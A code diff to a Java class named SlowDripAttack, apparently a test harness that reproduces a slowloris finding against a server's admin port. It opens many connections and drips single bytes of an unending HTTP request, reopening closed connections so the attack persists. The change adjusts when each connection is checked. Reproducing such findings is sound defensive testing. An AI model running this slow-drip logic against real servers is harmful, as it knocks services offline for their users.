@@ -13,8 +13,8 @@ import java.util.concurrent.atomic.AtomicLong;
 
 /**
  * The slowloris of the admin-port finding: {@code n} connections that each send one byte of a request that never
- * ends every {@code interval}, from one thread. A connection the server closes is opened again at once (noticed on
- * its next tick), as a real attacker would, so the attack holds for as long as it runs.
+ * ends every {@code interval}, from one thread. A connection the server has closed is noticed when it is next due to
+ * drip, as the issue's attacker would, and opened again at once, so the attack holds for as long as it runs.
  */
 final class SlowDripAttack implements AutoCloseable {
     private static final byte[] REQUEST = "GET /health/live HTTP/1.1\r\nHost: admin\r\nX-Drip: "
@@ -90,19 +90,20 @@ final class SlowDripAttack implements AutoCloseable {
                 open(i, now);
                 continue;
             }
+            if (now - nextDrip[i] < 0) {
+                continue;
+            }
             try {
                 scratch.clear();
-                if (ch.read(scratch) < 0) { // whatever the server answers (a 408) is discarded; EOF means closed
+                if (ch.read(scratch) < 0) { // whatever the server answered (a 408) is discarded; EOF means closed
                     throw new IOException("closed by the server");
                 }
-                if (now - nextDrip[i] >= 0) {
-                    byte b = sent[i] < REQUEST.length ? REQUEST[sent[i]] : (byte) 'a';
-                    if (ch.write(ByteBuffer.wrap(new byte[]{b})) == 1) {
-                        sent[i]++;
-                        bytesSent.incrementAndGet();
-                    }
-                    nextDrip[i] = now + intervalNanos;
+                byte b = sent[i] < REQUEST.length ? REQUEST[sent[i]] : (byte) 'a';
+                if (ch.write(ByteBuffer.wrap(new byte[]{b})) == 1) {
+                    sent[i]++;
+                    bytesSent.incrementAndGet();
                 }
+                nextDrip[i] = now + intervalNanos;
             } catch (IOException closed) {
                 closedByServer.incrementAndGet();
                 closeQuietly(ch);
